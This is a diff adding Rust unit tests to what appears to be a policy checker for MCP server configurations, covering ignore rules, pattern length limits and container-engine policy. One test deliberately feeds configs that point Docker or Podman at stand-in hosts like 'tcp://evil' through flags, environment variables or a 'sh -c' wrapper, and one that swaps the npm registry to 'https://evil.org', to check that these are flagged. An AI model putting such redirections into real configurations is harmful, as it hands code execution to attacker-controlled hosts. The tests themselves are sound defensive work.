@@ -378,6 +378,67 @@ fn an_ignore_covers_what_fits_all_that_it_says() {
 }
 
 #[test]
+fn of_many_ignores_each_is_used_where_it_fits_and_the_first_gives_the_reason() {
+    let entries = [
+        ("server = 'a'\nfile = 'docs/b'", false),
+        ("server = 'a'\nfile = './docs/'", true),
+        ("server = '[ab]'", true),
+        ("server = 'a'\nfile = 'docs'", true),
+        ("server = 'a'\nfile = 'docs'", true),
+        ("file = '**/x.json'\npointer = '/mcpServers/a'", true),
+        ("file = '**/y.json'", false),
+        ("server = 'c*'", false),
+        ("file = 'docs/x.json'\npointer = '/mcpServers/a/url'", true),
+        ("pointer = ''", true),
+    ];
+    let text = entries.iter().enumerate().map(|(at, (more, _))| {
+        format!("[[ignore]]\nrule = 'missing-type'\nreason = 'r{at}'\n{more}\n")
+    });
+    let (settings, findings, used) = judged(&text.collect::<String>(), "docs/x.json");
+    let reasons: Vec<&str> = findings
+        .iter()
+        .filter_map(|finding| Some(finding.ignored.as_ref()?.reason.as_str()))
+        .collect();
+    assert_eq!(reasons, ["r1", "r2"]);
+    let unused = settings.unused(&used, true, 0);
+    let unused: Vec<String> = unused.into_iter().map(|one| one.pointer).collect();
+    assert_eq!(unused, ["/ignore/0", "/ignore/6", "/ignore/7"]);
+}
+
+#[test]
+fn patterns_of_a_configuration_are_bounded_and_words_are_not() {
+    let ignores = |server: &str| {
+        let entry = |at: usize| {
+            let server = server.replace('#', &at.to_string());
+            format!("[[ignore]]\nrule = 'missing-type'\nreason = 'r'\nserver = '{server}'\n")
+        };
+        (0..3_000).map(entry).collect::<String>()
+    };
+    let list = |word: &str| {
+        let words = (0..3_000).map(|at| format!("'{}', ", word.replace('#', &at.to_string())));
+        words.collect::<String>()
+    };
+    for text in [
+        ignores("x#-*"),
+        format!("[policy]\ncommands = [{}]", list("x#*")),
+        format!("[policy]\npackages = [{}]", list("npm:@a#/*")),
+        format!("[policy]\nurls = [{}]", list("https://a#/*")),
+        format!("[files]\nexclude = [{}]", list("a#/*.json")),
+        format!(
+            "[sync]\nsource = 'a'\n[[sync.target]]\nhost = 'codex'\nservers = [{}]",
+            list("a#*")
+        ),
+    ] {
+        let faults = told(&text);
+        assert_eq!(faults.len(), 1, "{faults:?}");
+        assert!(faults[0].1.contains("longer than 8192 bytes"), "{faults:?}");
+    }
+    assert!(Settings::parse(&ignores("x#")).is_ok());
+    let words = format!("[policy]\ncommands = [{}]", list("x#"));
+    assert!(Settings::parse(&words).is_ok());
+}
+
+#[test]
 fn an_ignore_without_a_use_is_reported_if_somebody_could_know() {
     let unused = |file: &str, whole: bool| {
         let (settings, _, used) = judged(
@@ -413,7 +474,7 @@ fn an_ignore_without_a_use_is_reported_if_somebody_could_know() {
     assert_eq!(unused("file = 'b/x.json'", false), []);
     assert_eq!(
         unused("file = 'b/*'", true),
-        one("no file fits `b/*` of this `[[ignore]]`")
+        one("no file matches `b/*` of this `[[ignore]]`")
     );
 }
 
@@ -627,6 +688,76 @@ mod policy {
                 "{server}: {found:?}"
             );
         }
+    }
+
+    #[test]
+    fn an_allowed_image_of_another_engine_is_another_image() {
+        let policy =
+            "commands = ['docker', 'podman', 'nerdctl']\npackages = ['image:ghcr.io/acme/*']";
+        let image = "ghcr.io/acme/x";
+        for (command, args) in [
+            ("docker", "run -i --rm IMAGE"),
+            ("docker", "--debug -l info container run -i IMAGE --host x"),
+            ("docker", "run -e DOCKER_HOST=tcp://inside IMAGE"),
+            ("podman", "--log-level=debug run IMAGE -c x"),
+            ("docker", "exec -i db mcp"),
+            ("env", "LANG=C docker run IMAGE"),
+        ] {
+            let args = format!(
+                "{:?}",
+                args.replace("IMAGE", image).split(' ').collect::<Vec<_>>()
+            );
+            let server = format!(r#"{{"command": "{command}", "args": {args}}}"#);
+            assert_eq!(found(policy, &server), [], "{server}");
+        }
+        for (command, args, at) in [
+            ("docker", "-H tcp://evil run IMAGE", "-H"),
+            ("docker", "--host=tcp://evil run IMAGE", "--host=tcp://evil"),
+            ("docker", "--config e run IMAGE", "--config"),
+            ("docker", "--context e container run IMAGE", "--context"),
+            ("docker", "compose up", "compose"),
+            ("docker", "mcp gateway run", "mcp"),
+            ("docker", "container create IMAGE", "create"),
+            ("podman", "--url tcp://evil run IMAGE", "--url"),
+            ("podman", "--connection e run IMAGE", "--connection"),
+            ("podman", "-c e run IMAGE", "-c"),
+            ("podman", "--unheard-of run IMAGE", "--unheard-of"),
+            ("podman", "kube play x.yaml", "kube"),
+            ("nerdctl", "--address e run IMAGE", "--address"),
+            (
+                "env",
+                "DOCKER_HOST=tcp://evil docker run IMAGE",
+                "DOCKER_HOST=tcp://evil",
+            ),
+            ("sh", "-c|exec docker -H tcp://evil run IMAGE", "-H"),
+        ] {
+            let mark = if args.contains('|') { '|' } else { ' ' };
+            let args = format!(
+                "{:?}",
+                args.replace("IMAGE", image).split(mark).collect::<Vec<_>>()
+            );
+            let server = format!(r#"{{"command": "{command}", "args": {args}}}"#);
+            let found = found(policy, &server);
+            assert!(
+                matches!(&found[..], [(Some("package"), bytes, _)] if bytes == at),
+                "{server}: {found:?}"
+            );
+        }
+        for name in [
+            "DOCKER_HOST",
+            "DOCKER_CONTEXT",
+            "DOCKER_CONFIG",
+            "CONTAINER_HOST",
+            "CONTAINERS_CONF",
+        ] {
+            let server = format!(
+                r#"{{"command": "docker", "args": ["run", "{image}"], "env": {{"{name}": "tcp://evil"}}}}"#
+            );
+            let found = found(policy, &server);
+            assert_eq!(found.len(), 1, "{name}: {found:?}");
+        }
+        let npm = r#"{"command": "env", "args": ["npm_config_registry=https://evil.org", "npx", "-y", "@acme/a"]}"#;
+        assert_eq!(found("packages = ['@acme/*']", npm).len(), 1);
     }
 
     #[test]
